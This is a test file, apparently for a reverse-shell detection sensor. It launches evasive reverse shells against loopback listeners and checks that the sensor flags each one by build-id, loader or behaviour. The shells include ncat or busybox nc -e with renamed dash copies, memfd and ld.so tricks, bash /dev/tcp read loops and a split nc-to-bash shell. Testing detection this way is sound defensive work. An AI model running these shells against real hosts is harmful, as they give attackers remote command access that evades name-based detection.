/**
 * The evasion corpus, as the threat model reads: another name for the shell. Real programs
 * against loopback listeners that send a command and read its answer, under the real sensor
 * and the default rules. Each shell hides what it is from a name list (busybox applets, a copy
 * of dash under a random name and path padded with random bytes, the same run by a relative
 * path from another working directory, a file in another mount namespace, a memfd, ld.so
 * loading the shell), and each must give exactly one finding saying which evidence named it,
 * never the name.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Finding } from "sockeye";
import { randomBytes } from "node:crypto";
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PYTHON, Session, attachEngine, commandingListener, kernelTier, run } from "./harness.js";

const tier = kernelTier();

interface IdentifiedFinding extends Finding {
  destination?: { port: number };
  sockeye: Finding["sockeye"] & { verdict: { identified_by?: string } };
}


/** A name no list can hold: letters drawn at test time. */
const randomName = () => `k${randomBytes(6).toString("hex")}`;

describe.runIf(tier.run)("kernel: another name for the shell (evasions of name lists)", () => {
  let session: Session;
  const findings: IdentifiedFinding[] = [];
  const top = mkdtempSync(join(tmpdir(), "sockeye-evasion-"));
  /** dash, copied to a random name under a random path, with random bytes appended (its digest is no interpreter's). */
  const copyDir = join(top, randomName(), randomName());
  const copyName = randomName();
  const otherCwd = join(top, randomName());

  beforeAll(async () => {
    mkdirSync(copyDir, { recursive: true });
    mkdirSync(otherCwd);
    writeFileSync(join(copyDir, copyName), Buffer.concat([readFileSync("/bin/dash"), randomBytes(1 + (randomBytes(1)[0]! % 64))]));
    chmodSync(join(copyDir, copyName), 0o755);
    session = await Session.open();
    attachEngine(session, findings);
  });
  afterAll(() => {
    session?.close();
    rmSync(top, { recursive: true, force: true });
  });

  const cases: { name: string; cmd: (port: number) => string[]; rule: string; identifiedBy: string }[] = [
    {
      name: "busybox nc H P -e /bin/busybox sh -i: the applet run decides",
      cmd: (p) => ["busybox", "nc", "127.0.0.1", String(p), "-e", "/bin/busybox", "sh", "-i"],
      rule: "TRC-101", identifiedBy: "applet",
    },
    {
      name: "ncat -e of dash copied to a random name and path, padded with random bytes: its build-id",
      cmd: (p) => ["ncat", "127.0.0.1", String(p), "-e", join(copyDir, copyName)],
      rule: "RELAY-001", identifiedBy: "build_id",
    },
    {
      name: "the same copy run by a relative path from another working directory than the daemon's",
      cmd: (p) => ["bash", "-c", `cd ${copyDir} && exec ncat 127.0.0.1 ${p} -e ./${copyName}`],
      rule: "RELAY-001", identifiedBy: "build_id",
    },
    {
      name: "a copy of dash on a tmpfs mounted in another mount namespace (the daemon's view of the path is empty)",
      cmd: (p) => ["unshare", "-m", "--propagation", "private", "bash", "-c",
        `mount -t tmpfs tmpfs ${otherCwd} && cp /bin/dash ${otherCwd}/${copyName} && exec ncat 127.0.0.1 ${p} -e ${otherCwd}/${copyName}`],
      rule: "RELAY-001", identifiedBy: "build_id",
    },
    {
      name: "dash run from a memfd (/proc/self/fd/N) by busybox nc -e, which dup2s the socket onto stdio",
      cmd: (p) => [PYTHON, "-c", [
        "import os",
        `fd = os.memfd_create("${randomName()}", 0)`,
        'os.write(fd, open("/bin/dash", "rb").read())',
        `os.execv("/bin/busybox", ["busybox", "nc", "127.0.0.1", "${p}", "-e", "/proc/self/fd/%d" % fd])`,
      ].join("\n")],
      rule: "TRC-101", identifiedBy: "build_id",
    },
    {
      name: "ld.so /bin/sh on the socket: the program the loader loads",
      cmd: (p) => ["busybox", "nc", "127.0.0.1", String(p), "-e", "/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-i"],
      rule: "TRC-101", identifiedBy: "loader",
    },
  ];

  for (const c of cases) {
    it(c.name, async () => {
      const listener = await commandingListener("127.0.0.1");
      try {
        const [cmd, ...args] = c.cmd(listener.port);
        const r = await run("timeout", ["-s", "KILL", "10", cmd!, ...args]);
        expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
        await session.settle();
        const found = findings.filter((f) => f.destination?.port === listener.port);
        expect(found.map((f) => f.rule.id)).toEqual([c.rule]);
        expect(found[0]!.sockeye.verdict.identified_by).toBe(c.identifiedBy);
      } finally {
        await listener.close();
      }
    }, 20_000);
  }
});

/**
 * A shell is what it does (issue 26): shapes no name list sees, caught by SHELL-001's
 * behavioural evidence (input from a connection this host made, output back to it, programs
 * started as commands arrive). Each with exactly one finding across every default rule.
 */
describe.runIf(tier.run)("kernel: a shell is what it does (behavioural evidence)", () => {
  let session: Session;
  const findings: IdentifiedFinding[] = [];
  const top = mkdtempSync(join(tmpdir(), "sockeye-behave-"));

  beforeAll(async () => {
    session = await Session.open();
    attachEngine(session, findings);
  });
  afterAll(() => {
    session?.close();
    rmSync(top, { recursive: true, force: true });
  });

  /** Two commands whose answers the listener waits for: `id`, then `uname -s`. */
  const TWO_COMMANDS: [string, string][] = [["id", "uid="], ["uname -s", "Linux"]];
  const onPort = (port: number) => findings.filter((f) => f.destination?.port === port);

  it("the read loop fed through a pipe: exec 5<>/dev/tcp/H/P; cat <&5 | while read line; do $line 2>&5 >&5; done", async () => {
    const listener = await commandingListener("127.0.0.1", { commands: TWO_COMMANDS });
    try {
      const r = await run("timeout", ["-s", "KILL", "15", "bash", "-c",
        `exec 5<>/dev/tcp/127.0.0.1/${listener.port}; cat <&5 | while read line; do $line 2>&5 >&5; done`]);
      expect(await listener.answered, `no answer from the loop: ${r.stderr}`).toBe(true);
      await session.settle();
      const found = onPort(listener.port);
      expect(found.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
      expect(found[0]!.sockeye.verdict.identified_by).toBe("behaviour");
    } finally {
      await listener.close();
    }
  }, 30_000);

  it("the split shell: nc H P1 | bash -i >& /dev/tcp/H/P2 (input from one connection, output on another)", async () => {
    const split = await splitListeners(TWO_COMMANDS);
    try {
      const r = await run("timeout", ["-s", "KILL", "15", "bash", "-c",
        `nc 127.0.0.1 ${split.inputPort} | bash -i >& /dev/tcp/127.0.0.1/${split.outputPort}`]);
      expect(await split.answered, `no answer on the output connection: ${r.stderr}`).toBe(true);
      await session.settle();
      const found = findings.filter((f) => [split.inputPort, split.outputPort].includes(f.destination?.port ?? -1));
      expect(found.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
      // bash reads its commands from stdin: named at its exec, before any command ran.
      expect(found[0]!.sockeye.verdict.identified_by).toBe("name");
    } finally {
      await split.close();
    }
  }, 30_000);
});

/**
 * Two loopback listeners for a shell split over two connections: the first sends the commands
 * (one after another, each once the previous answer came back on the second), the second
 * collects the output. Both end once every answer came (`exit` on the input first).
 */
async function splitListeners(commands: [string, string][]): Promise<{ inputPort: number; outputPort: number; answered: Promise<boolean>; close(): Promise<void> }> {
  const sockets = new Set<import("node:net").Socket>();
  let input: import("node:net").Socket | undefined;
  let got = "";
  let next = 0;
  let resolveAnswered!: (ok: boolean) => void;
  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
  const netMod = await import("node:net");
  const maybeSend = () => {
    if (input === undefined || next >= commands.length) return;
    if (next === 0 || got.includes(commands[next - 1]![1])) {
      input.write(`${commands[next]![0]}\n`);
      next++;
    }
  };
  const check = () => {
    maybeSend();
    if (next === commands.length && got.includes(commands[commands.length - 1]![1])) {
      resolveAnswered(true);
      setTimeout(() => input?.end("exit\n"), 1500);
    }
  };
  let outputConnected = false;
  // Half-open allowed: nc half-closes its side when its own stdin ends, and keeps reading.
  const inServer = netMod.createServer({ allowHalfOpen: true }, (s) => {
    sockets.add(s);
    s.on("error", () => {});
    input = s;
    // The first command waits for the output connection: the shell opens it as it starts.
    if (outputConnected) maybeSend();
    s.on("close", () => resolveAnswered(false));
  });
  const outServer = netMod.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    outputConnected = true;
    s.on("data", (d: Buffer) => {
      got += d.toString();
      check();
    });
    maybeSend();
  });
  await new Promise<void>((resolve) => inServer.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => outServer.listen(0, "127.0.0.1", resolve));
  return {
    inputPort: (inServer.address() as import("node:net").AddressInfo).port,
    outputPort: (outServer.address() as import("node:net").AddressInfo).port,
    answered,
    close: () => Promise.all([inServer, outServer].map((srv) => new Promise<void>((resolve) => { for (const s of sockets) s.destroy(); srv.close(() => resolve()); }))).then(() => undefined),
  };
}

/**
 * Generated at test time, so no list can satisfy them: an interpreter drawn at random among
 * those installed here (probed, never assumed), copied to a random name under a random path
 * and padded with random bytes, running a read-and-run loop in its own language behind
 * `cat <&5 |` with its output on the connection. Each caught with exactly one finding, and
 * never by name (the copy has none a list holds).
 */
describe.runIf(tier.run)("kernel: generated variants (a random installed interpreter, copied, renamed, padded)", () => {
  let session: Session;
  const findings: IdentifiedFinding[] = [];
  const top = mkdtempSync(join(tmpdir(), "sockeye-generated-"));
  const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
  /** How each family reads lines from stdin and runs each one; `copy` is the renamed interpreter's path. */
  const loops: { name: string; program: string; run: (copy: string) => string; probe: string[] }[] = [
    { name: "bash", program: "/bin/bash", run: (c) => c, probe: ["-c", "true"] },
    { name: "dash", program: "/bin/dash", run: (c) => c, probe: ["-c", "true"] },
    { name: "sh", program: "/bin/sh", run: (c) => c, probe: ["-c", "true"] },
    // A renamed busybox runs the applet argv[0] names: `exec -a sh` gives it one.
    { name: "busybox sh", program: "/bin/busybox", run: (c) => `(exec -a sh ${c})`, probe: ["sh", "-c", "true"] },
    { name: "python3", program: PYTHON, run: (c) => `${c} -u -c ${q("import sys,subprocess\nwhile True:\n    l = sys.stdin.readline()\n    if not l: break\n    subprocess.run(l, shell=True)")}`, probe: ["-c", "pass"] },
    { name: "perl", program: "/usr/bin/perl", run: (c) => `${c} -e ${q("while(<STDIN>){system($_)}")}`, probe: ["-e", "1"] },
    { name: "php", program: "/usr/bin/php", run: (c) => `${c} -r ${q("while(($l=fgets(STDIN))!==false){proc_close(proc_open($l,[0=>STDIN,1=>STDOUT,2=>STDERR],$p));}")}`, probe: ["-r", ";"] },
    { name: "ruby", program: "/usr/bin/ruby", run: (c) => `${c} -e ${q("while l=STDIN.gets; system(l); end")}`, probe: ["-e", "nil"] },
  ];
  const installed = loops.filter((l) => {
    if (!existsSync(l.program)) return false;
    return spawnSync(l.program, l.probe, { stdio: "ignore", timeout: 10_000 }).status === 0;
  });

  beforeAll(async () => {
    session = await Session.open();
    attachEngine(session, findings);
  });
  afterAll(() => {
    session?.close();
    rmSync(top, { recursive: true, force: true });
  });

  it("at least the shells are installed (the draw has something to draw from)", () => {
    expect(installed.map((l) => l.name)).toEqual(expect.arrayContaining(["bash", "dash", "sh"]));
  });

  // Three draws a run (with replacement): over runs, every installed interpreter comes up.
  // SOCKEYE_EVASIONS_ALL=1 runs every installed one instead (each still renamed at random).
  const picks = process.env.SOCKEYE_EVASIONS_ALL === "1"
    ? installed
    : [1, 2, 3].map(() => installed[randomBytes(1)[0]! % Math.max(1, installed.length)]!).filter((pick) => pick !== undefined);
  for (const [draw, pick] of picks.entries()) {
    it(`draw ${draw + 1}: a random installed interpreter (${pick.name}), renamed and padded, in a read loop behind a pipe`, async () => {
      const dir = join(top, randomName(), randomName());
      mkdirSync(dir, { recursive: true });
      const copy = join(dir, randomName());
      writeFileSync(copy, Buffer.concat([readFileSync(realpathSync(pick.program)), randomBytes(1 + (randomBytes(1)[0]! % 64))]));
      chmodSync(copy, 0o755);
      const listener = await commandingListener("127.0.0.1", { commands: [["id", "uid="], ["uname -s", "Linux"]] });
      try {
        const r = await run("timeout", ["-s", "KILL", "15", "bash", "-c",
          `exec 5<>/dev/tcp/127.0.0.1/${listener.port}; cat <&5 | ${pick.run(copy)} >&5 2>&5`]);
        expect(await listener.answered, `${pick.name} as ${copy}: no answer: ${r.stderr}`).toBe(true);
        await session.settle();
        const found = findings.filter((f) => f.destination?.port === listener.port);
        expect(found.map((f) => f.rule.id), pick.name).toEqual(["SHELL-001"]);
        expect(found[0]!.sockeye.verdict.identified_by, pick.name).not.toBe("name");
        console.log(`generated variant: ${pick.name} as ${copy}: ${found[0]!.rule.id}, identified_by ${found[0]!.sockeye.verdict.identified_by}`);
      } finally {
        await listener.close();
      }
    }, 30_000);
  }
});
